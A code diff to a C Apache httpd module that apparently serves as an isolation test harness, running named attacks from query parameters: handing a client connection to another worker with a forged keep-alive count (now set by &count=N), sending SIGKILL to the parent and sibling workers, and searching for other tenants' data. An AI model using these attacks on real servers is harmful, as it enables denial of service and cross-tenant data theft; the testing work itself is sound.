@@ -38,8 +38,8 @@
  *             every entry of that ring, so each lent connection this worker answers reads as
  *             never kept alive before (MaxKeepAliveRequests).
  *   keepalives  with &fd= the hand-back channel: this client connection handed back with its
- *             true ticket, a request for b.test and a kept-alive count of 2^32 - 1; writes
- *             nothing to the client (reported in the error log).
+ *             true ticket, a request for b.test and a kept-alive count of &count=N (default
+ *             2^32 - 1); writes nothing to the client (reported in the error log).
  *   signal    SIGKILL to getppid() and to every pid in the child table's identities (never 0,
  *             1, a negative pid, or this worker itself).
  *   holdings  what this worker holds of anyone: &needles=HEX[,HEX...] are searched for in every
@@ -1051,10 +1051,10 @@ static void attack_empty(request_rec *r, int client_fd)
 #define TICKET_OFFSET 272
 
 /* Hands this worker's own client connection back, with its true ticket and a request for
- * b.test, saying it has already been kept alive for 2^32 - 1 answers. Nothing may reach the
+ * b.test, saying it has already been kept alive for `lie` answers. Nothing may reach the
  * client from here (the connection is B's to answer now): the report goes to the error log,
  * and the connection is marked aborted, so httpd writes nothing and does not shut it down. */
-static int attack_keepalives(request_rec *r, int client_fd)
+static int attack_keepalives(request_rec *r, int client_fd, uint32_t lie)
 {
     mapping maps[64];
     int count = shared_state_mappings(maps, 64), i, sent = 0, first_err = 0;
@@ -1062,7 +1062,6 @@ static int attack_keepalives(request_rec *r, int client_fd)
     static unsigned char msg[MSG_HEADER + 256];
     const char *b_request = "GET /cgi-bin/id.cgi?keepalives-lie HTTP/1.1\r\nHost: b.test\r\n\r\n";
     uint64_t ticket, high, low;
-    uint32_t lie = 0xffffffffu;
     size_t len;
     int fds[256], socket_count = list_sockets(r, client_fd, fds, 256);
 
@@ -1415,7 +1414,9 @@ static int attack_handler(request_rec *r)
     only_fds = args ? apr_table_get(args, "fd") : NULL;
     client_fd = client_fd_of(r);
     if (strcmp(attack, "keepalives") == 0) {
-        return attack_keepalives(r, client_fd);  /* writes nothing to its client */
+        const char *count = args ? apr_table_get(args, "count") : NULL;
+        /* writes nothing to its client */
+        return attack_keepalives(r, client_fd, count ? (uint32_t)strtoul(count, NULL, 10) : 0xffffffffu);
     }
     ap_set_content_type(r, "text/plain");
     apr_table_setn(r->headers_out, "Cache-Control", "no-store");
